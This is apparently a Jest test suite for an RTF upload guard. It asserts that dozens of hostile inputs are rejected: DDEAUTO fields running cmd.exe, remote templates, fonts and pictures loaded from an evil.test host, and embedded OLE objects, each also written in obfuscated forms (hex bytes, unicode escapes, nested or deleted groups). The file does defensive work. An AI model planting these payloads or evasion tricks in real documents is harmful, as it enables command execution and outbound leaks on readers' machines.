import { describe, expect, it } from '@jest/globals';
import { guardDocument } from './guard-document.js';

const rtf = (inside: string) => Buffer.from(`{\\rtf1\\ansi Ada Lovelace ${inside}\\par}`, 'latin1');
const hex = (text: string) => Buffer.from(text, 'latin1').toString('hex');
const escaped = (text: string) => text.replace(/[\\{}]/g, '\\$&');
const eachLetter = (text: string, write: (letter: string) => string) => [...text].map(write).join('');
const field = (written: string) => `{\\field{\\*\\fldinst ${written}}{\\fldrslt shown}}`;

const SPELLINGS: [string, (instruction: string) => string][] = [
  ['as usual', (text) => field(escaped(text))],
  ['without a star', (text) => `{\\field{\\fldinst ${escaped(text)}}}`],
  ['without a field', (text) => `{\\fldinst{${escaped(text)}}}`],
  ['in groups', (text) => field(`{\\b0 ${eachLetter(text, (letter) => `{\\i ${escaped(letter)}}`)}}`)],
  ['over lines', (text) => field(eachLetter(text, (letter) => `${escaped(letter)}\r\n`))],
  ['in bytes', (text) => field(eachLetter(text, (letter) => `\\'${hex(letter)}`))],
  ['in numbers', (text) => field(eachLetter(text, (letter) => `\\u${letter.charCodeAt(0)}?`))],
  [
    'in numbers without stand-ins',
    (text) => field(`\\uc0${eachLetter(text, (letter) => `\\u${letter.charCodeAt(0)} `)}`),
  ],
  [
    'in numbers with two stand-ins',
    (text) => field(`\\uc2${eachLetter(text, (letter) => `\\u${letter.charCodeAt(0)}\\'41B`)}`),
  ],
  ['around data', (text) => field(`${escaped(text.slice(0, 2))}{\\*\\datafield 41}${escaped(text.slice(2))}`)],
  ['within another', (text) => field(`IF 1 = 1 ${field(escaped(text))}`)],
  ['within what another shows', (text) => `{\\field{\\*\\fldinst PAGE}{\\fldrslt ${field(escaped(text))}}}`],
  ['in a head', (text) => `{\\header ${field(escaped(text))}}`],
  ['in a group that nobody knows', (text) => `{\\*\\anything ${field(escaped(text))}}`],
];

const HOSTILE: [string, string][] = [
  ['DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', 'CV_HAS_PROGRAM'],
  ['ddeauto excel "a"', 'CV_HAS_PROGRAM'],
  ['LINK Excel.Sheet "C:\\\\a.xls"', 'CV_HAS_PROGRAM'],
  ['INCLUDEPICTURE "https://evil.test/a.png" \\d', 'CV_REACHES_OUT'],
  ['INCLUDETEXT "\\\\\\\\evil.test\\\\a.rtf"', 'CV_REACHES_OUT'],
  ['HYPERLINK "file:///C:/a.exe"', 'CV_REACHES_OUT'],
];
const HARMLESS = [
  'HYPERLINK "https://ada.example/a_b"',
  'HYPERLINK \\l "top"',
  'PAGE',
  'TOC \\o "1-3"',
  'INCLUDEPICTURE "C:\\\\a.png"',
];

const spelled = SPELLINGS.flatMap(([spelling, write]) =>
  HOSTILE.map(([told, code]) => ({ spelling, write, told, code })),
);
const harmless = SPELLINGS.flatMap(([spelling, write]) => HARMLESS.map((told) => ({ spelling, write, told })));

const OBJECT = `0105000002000000${'0'.repeat(20)}`;
const STORE = `01050000\r\n0200000018000000${hex('Msxml2.SAXXMLReader.6.0\0')}0000d0cf11e0a1b11ae1`;
const property = (name: string, value: string) => `{\\shp{\\*\\shpinst{\\sp{\\sn ${name}}{\\sv ${value}}}}}`;

describe('a field of an RTF document', () => {
  it.each(spelled)('is refused $spelling: $told', async ({ write, told, code }) => {
    await expect(guardDocument(rtf(write(told)))).rejects.toMatchObject({ code });
  });

  it.each(harmless)('is taken $spelling: $told', async ({ write, told }) => {
    expect((await guardDocument(rtf(write(told)))).type).toBe('rtf');
  });

  it.each([
    ['what a field makes', field(`${field('QUOTE 68')} calc`)],
    ['deleted letters', field('DDE{\\deleted X}AUTO')],
    ['letters in two forms', field('D{\\upr{X}{\\*\\ud D}}E')],
    ['controls for stand-ins', field('\\u68\\b0 DE calc')],
    ['a group of another kind', field('{\\*\\cs16 DDEAUTO}')],
    ['a head of pages in it', field('DDE{\\headerl X}AUTO calc')],
    ['a template that was deleted', '{\\*\\template {\\deleted \\\\\\\\evil.test}}'],
    ['two of them in one group', '{\\*\\fldinst DDEAUTO calc\\fldinst PAGE}'],
    ['another kind behind its own', field('\\pict DDEAUTO')],
  ])('is refused where nobody knows what it is told, with %s', async (_what, inside) => {
    await expect(guardDocument(rtf(inside))).rejects.toThrow('CV_HAS_PROGRAM');
  });
});

describe('an RTF document', () => {
  it.each([
    ['an object', `{\\object\\objemb{\\*\\objdata ${OBJECT}}}`, 'CV_HAS_PROGRAM'],
    ['an object without its frame', `{\\objdata ${OBJECT}}`, 'CV_HAS_PROGRAM'],
    ['an object whose word is cut', `{\\*\\objdat\\'61 ${OBJECT}}`, 'CV_HAS_PROGRAM'],
    ['an object in a line of its own', `{\\object\r\n{\\*\r\n\\objdata\r\n01}}`, 'CV_HAS_PROGRAM'],
    ['an object with a number', '{\\*\\objdata12 01}', 'CV_HAS_PROGRAM'],
    ['an object that is linked', '{\\object\\objautlink}', 'CV_HAS_PROGRAM'],
    ['an object that looks for news', '{\\objupdate}', 'CV_HAS_PROGRAM'],
    ['a control', '{\\object\\objocx}', 'CV_HAS_PROGRAM'],
    ['an object in a group that nobody knows', `{\\*\\anything ${OBJECT}}`, 'CV_HAS_PROGRAM'],
    ['a folder of files in such a group', '{\\*\\anything 41 d0cf{\\i 11e0}\r\na1b11ae1}', 'CV_HAS_PROGRAM'],
    ['data where none are kept', `{\\*\\anything ${STORE}}`, 'CV_HAS_PROGRAM'],
    ['an object where data are kept', `{\\*\\datastore ${OBJECT}d0cf11e0a1b11ae1}`, 'CV_HAS_PROGRAM'],
    ['a template of a site', '{\\*\\template http://evil.test/a.dot}', 'CV_REACHES_OUT'],
    ['a template of a server, in bytes', "{\\*\\template \\'5c\\'5cevil.test\\'5ca.dot}", 'CV_REACHES_OUT'],
    [
      'a font of a server',
      '{\\fonttbl{\\f0{\\*\\fontemb{\\*\\fontfile \\\\\\\\evil.test\\\\a.ttf}} A;}}',
      'CV_REACHES_OUT',
    ],
    ['a file that comes next', '{\\nextfile \\\\\\\\evil.test\\\\a.rtf}', 'CV_REACHES_OUT'],
    ['files by numbers', '{\\*\\filetbl{\\file\\fid1 http://evil.test/a.rtf}}', 'CV_REACHES_OUT'],
    ['a form for saving', '{\\*\\xform http://evil.test/a.xsl}', 'CV_REACHES_OUT'],
    [
      'a drawing that leads to another file',
      property('pihlShape', '{\\*\\hl{\\hlsrc file:///C:/a.exe}}'),
      'CV_REACHES_OUT',
    ],
    ['an object by its number', '{\\*\\oleclsid 00}', 'CV_HAS_PROGRAM'],
    ['data for letters', '{\\*\\mailmerge{\\mmdatasource a}}', 'CV_REACHES_OUT'],
    ['questions for letters', '{\\*\\mailmerge{\\mmquery a}}', 'CV_REACHES_OUT'],
    ['heads for letters', '{\\*\\mailmerge{\\mmheadersource a}}', 'CV_REACHES_OUT'],
    ['places for letters', '{\\*\\mailmerge{\\mmodso{\\mmodsosrc a}}}', 'CV_REACHES_OUT'],
    ['a picture of a drawing', property('pibName', 'https://evil.test/a.png'), 'CV_REACHES_OUT'],
    ['a background of a drawing', property('fillBlipName', '\\\\\\\\evil.test\\\\a.png'), 'CV_REACHES_OUT'],
    ['a drawing that leads to a file', property('pihlShape', '{\\*\\hl{\\hlfr file:///C:/a.exe}}'), 'CV_REACHES_OUT'],
    ['a server where its links begin', '{\\info{\\hlinkbase file://evil.test/}}', 'CV_REACHES_OUT'],
    ['a deleted picture', property('pibName', '{\\deleted https://evil.test/a.png}'), 'CV_REACHES_OUT'],
    ['letters for many', '{\\*\\mailmerge{\\mmconnectstr DSN=a}}', 'CV_REACHES_OUT'],
    ['a document of many', '{\\subdocument1}', 'CV_REACHES_OUT'],
    ['bare bytes', '{\\pict\\bin2 {{}', 'CV_TOO_COMPLEX'],
    ['a group that is left open', '{\\b Ada', 'CV_BROKEN'],
  ])('is refused with %s', async (_what, inside, code) => {
    await expect(guardDocument(rtf(inside))).rejects.toMatchObject({ code });
  });

  it('is taken with all that Word writes', async () => {
    const parts = [
      '{\\fonttbl{\\f0\\fswiss{\\*\\panose 020b}Arial;}}{\\stylesheet{\\s1 heading 1;}{\\*\\cs16 Link;}}',
      '{\\*\\themedata 504b0304140006}{\\*\\colorschememapping 3c3f}{\\*\\latentstyles{\\lsdlockedexcept Normal;}}',
      `{\\*\\datastore ${STORE}}`,
      '{\\*\\template C:\\\\Users\\\\ada\\\\CV.dotx}{\\info{\\title http://ada.example}}',
      '{\\*\\bkmkstart top}{\\*\\bkmkend top}{\\footnote see \\\\\\\\server}{\\*\\shppict{\\pict\\pngblip 8950}}',
      property('pibName', 'C:\\\\me.png') + property('pihlShape', '{\\*\\hl{\\hlfr https://ada.example}}'),
      property('gtextUNICODE', 'https://ada.example'),
    ];
    expect((await guardDocument(rtf(parts.join('')))).type).toBe('rtf');
  });
});
